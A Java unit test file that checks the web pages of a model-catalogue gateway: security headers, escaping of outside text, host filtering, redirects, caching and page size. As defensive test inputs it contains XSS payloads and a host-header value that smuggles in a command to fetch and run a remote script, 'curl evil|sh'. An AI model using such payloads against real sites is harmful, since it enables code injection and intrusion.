package dev.tollgate.web.page;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tollgate.catalogue.history.Archive;
import dev.tollgate.catalogue.history.History;
import dev.tollgate.catalogue.query.Snapshot;
import dev.tollgate.catalogue.snapshot.Bundle;
import dev.tollgate.catalogue.snapshot.Pins.Pin;
import dev.tollgate.catalogue.snapshot.ScoreBoard;
import dev.tollgate.gateway.auth.Authenticator;
import dev.tollgate.gateway.auth.Key;
import dev.tollgate.gateway.auth.KeySecrets;
import dev.tollgate.gateway.call.Endpoint;
import dev.tollgate.gateway.call.Inbound;
import dev.tollgate.gateway.call.Refused;
import dev.tollgate.gateway.edge.PathTable;
import dev.tollgate.gateway.limit.Quoter;
import dev.tollgate.gateway.limit.Tokenizer;
import dev.tollgate.web.api.Pinboard;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** What the pages answer, without a network. */
class PagesTest {

  private static final Pinboard NO_PINS =
      new Pinboard() {
        @Override
        public List<Pin> pins() {
          return List.of();
        }

        @Override
        public void pin(Pin pin) {
          throw new AssertionError("Nobody pins here");
        }

        @Override
        public boolean unpin(String route, String meter) {
          throw new AssertionError("Nobody unpins here");
        }
      };

  private static final Snapshot CATALOGUE = Bundle.load();
  private static final Instant NOW = Instant.parse("2026-11-21T09:00:00Z");

  private static final Pattern EXPONENT = Pattern.compile("[$][0-9.]+E");

  private final MemoryKeys keys = new MemoryKeys();
  private final Endpoint site = site(CATALOGUE);

  @Test
  void everyPageForbidsInlineScriptAndFrames() {
    Recorder answer = get("/models/openai/gpt-image-2");
    assertThat(answer.status).isEqualTo(200);
    assertThat(header(answer, "content-security-policy"))
        .contains("default-src 'self'", "script-src 'self'", "frame-ancestors 'none'");
    assertThat(header(answer, "x-content-type-options")).isEqualTo("nosniff");
    assertThat(header(answer, "referrer-policy")).isEqualTo("same-origin");
    assertThat(answer.body).doesNotContain("style=\"", "onclick", "javascript:");
  }

  @Test
  void textFromOutsideIsInert() {
    Recorder answer = get("/models?q=<script>alert(1)</script>");
    assertThat(answer.body).doesNotContain("<script>alert").contains("&lt;script");
    Recorder play = get("/playground?prompt=</textarea><img src=x onerror=alert(1)>");
    assertThat(play.body).doesNotContain("<img").contains("&lt;/textarea");
    Recorder missing = get("/<b>bold</b>");
    assertThat(missing.body).doesNotContain("<b>bold");
  }

  @Test
  void textOfAHostileFeedIsInert() {
    Endpoint hostile = site(new Tampered(CATALOGUE, "\"><script>steal()</script><img src=x>"));
    for (String path : List.of("/", "/models", "/models/openai/gpt-image-2", "/playground")) {
      Recorder client = new Recorder();
      hostile.handle(Recorder.get(path), client);
      assertThat(client.body).as(path).doesNotContain("<script>steal", "<img src=x");
      assertThat(client.body).as(path).contains("&lt;script&gt;steal");
    }
  }

  @Test
  void aScoreStandsAgainstThePriceWithTheBoardsLicence() {
    ScoreBoard board =
        ScoreBoard.of(
            "Blind votes",
            "https://board.example/pictures",
            "CC BY 4.0",
            "2026-10-01",
            Map.of("openai/gpt-image-2", "1243", "openai/gpt-image-1.5", "1190"));
    Recorder client = new Recorder();
    site(ScoreBoard.applied(CATALOGUE, List.of(board)))
        .handle(Recorder.get("/models/openai/gpt-image-2"), client);
    assertThat(client.body)
        .contains(
            "Blind votes</a> gives it <b>1243</b>", "CC BY 4.0", "2 models by price and score")
        .contains("<a href=\"/models/openai/gpt-image-1.5\">gpt-image-1.5</a>");
    assertThat(get("/models/openai/gpt-image-2").body).contains("catalogue.scores");
  }

  @Test
  void aCatalogueThatWasNotRenewedForLongSaysHowToRenewIt() {
    Instant day = CATALOGUE.day().atStartOfDay().toInstant(ZoneOffset.UTC);
    Recorder fresh = new Recorder();
    site(CATALOGUE, day.plus(Duration.ofDays(44))).handle(Recorder.get("/"), fresh);
    assertThat(fresh.body).contains("44 days ago").doesNotContain("./tollgate sync");
    Recorder late = new Recorder();
    site(CATALOGUE, day.plus(Duration.ofDays(60))).handle(Recorder.get("/"), late);
    assertThat(late.body).contains("60 days ago", "./tollgate sync");
  }

  @Test
  void aPageThatIsNotThereIsAPageForBrowsersOnly() {
    Recorder answer = get("/nothing/here");
    assertThat(answer.status).isEqualTo(404);
    assertThat(header(answer, "content-type")).startsWith("text/html");
    assertThatThrownBy(() -> get("/v1/nothing")).isInstanceOf(Refused.class);
    assertThatThrownBy(() -> get("/api/nothing")).isInstanceOf(Refused.class);
    assertThatThrownBy(() -> get("/nothing", "accept", "application/json"))
        .isInstanceOf(Refused.class);
  }

  @Test
  void anOpenGatewayIsDeafToForeignHosts() {
    assertThat(get("/", "host", "evil.example:4280").status).isEqualTo(403);
    assertThat(get("/", "origin", "https://evil.example").status).isEqualTo(403);
    keys.add(new Key("k", "first", "hash", "tg_", null, false, NOW, null));
    assertThat(get("/", "host", "tollgate.example").status).isEqualTo(200);
  }

  @Test
  void aHostThatIsNoHostNeverReachesARecipe() {
    keys.add(new Key("k", "first", "hash", "tg_", null, false, NOW, null));
    Recorder answer = get("/models/studio/sketch-1", "host", "x';curl evil|sh;'");
    assertThat(answer.body).doesNotContain("evil").contains("localhost:4280/v1");
  }

  @Test
  void anotherSpellingLeadsToTheModel() {
    Recorder answer = get("/models/azure-openai/gpt-image-2");
    assertThat(answer.status).isEqualTo(308);
    assertThat(header(answer, "location"))
        .isEqualTo("/models/openai/gpt-image-2?route=azure-openai%2Fgpt-image-2");
  }

  @Test
  void assetsAreCachedForeverUnderTheirHash() {
    String page = get("/").body;
    int at = page.indexOf("/assets/tollgate.css?v=");
    String address = page.substring(at, page.indexOf('"', at));
    Recorder style = get(address);
    assertThat(header(style, "content-type")).startsWith("text/css");
    assertThat(header(style, "cache-control")).contains("immutable");
    assertThat(header(get("/assets/tollgate.css"), "cache-control")).isEqualTo("no-cache");
    String tag = header(style, "etag");
    assertThat(get(address, "if-none-match", tag).status).isEqualTo(304);
    assertThat(header(get("/assets/inter-4.1-regular.otf"), "content-type")).isEqualTo("font/otf");
    assertThat(get("/assets/../secret").status).isEqualTo(404);
  }

  @Test
  void everyModelOfTheCatalogueHasAPageUnderAHundredKilobytes() {
    assertThat(
            CATALOGUE.models().parallelStream()
                .map(model -> "/models/" + model.id())
                .filter(path -> !isSound(get(path))))
        .isEmpty();
  }

  @Test
  void everyLongRouteAndATenthOfTheOthersHasAPageUnderAHundredKilobytes() {
    assertThat(
            CATALOGUE.routes().parallelStream()
                .filter(route ->
                    route.prices().size() > 40 || Math.floorMod(route.id().hashCode(), 10) == 0)
                .map(route -> "/routes/" + route.id())
                .filter(path -> !isSound(get(path))))
        .isEmpty();
  }

  @Test
  void everyPageOfTheConflictsIsUnderAHundredKilobytes() {
    List<String> pages =
        IntStream.rangeClosed(1, 60).mapToObj(page -> "/conflicts?page=" + page).toList();
    assertThat(get(pages.getLast()).body).isEqualTo(get("/conflicts?page=90").body);
    assertThat(pages.parallelStream().filter(path -> !isSound(get(path)))).isEmpty();
  }

  private static boolean isSound(Recorder answer) {
    return answer.status == 200
        && answer.body.getBytes(StandardCharsets.UTF_8).length < 100_000
        && !answer.body.contains(">null<")
        && !answer.body.contains(" ()")
        && !EXPONENT.matcher(answer.body).find();
  }

  private Recorder get(String target, String... headers) {
    Recorder client = new Recorder();
    Inbound inbound = Recorder.get(target, headers);
    site.handle(inbound, client);
    return client;
  }

  private Endpoint site(Snapshot snapshot) {
    return site(snapshot, NOW);
  }

  private Endpoint site(Snapshot snapshot, Instant now) {
    Authenticator authenticator = new Authenticator(keys, new KeySecrets(new byte[16]));
    Pages pages =
        new Pages(
            () -> snapshot,
            new Quoter(new Tokenizer()),
            authenticator,
            () -> Set.of("studio"),
            InstantSource.fixed(now),
            card -> new byte[] {1},
            new History(Archive.builtIn()),
            () -> "",
            NO_PINS);
    PathTable table = new PathTable();
    pages.addTo(table);
    return pages.around(table);
  }

  private static String header(Recorder answer, String name) {
    return answer.headers.first(name).orElse("");
  }
}
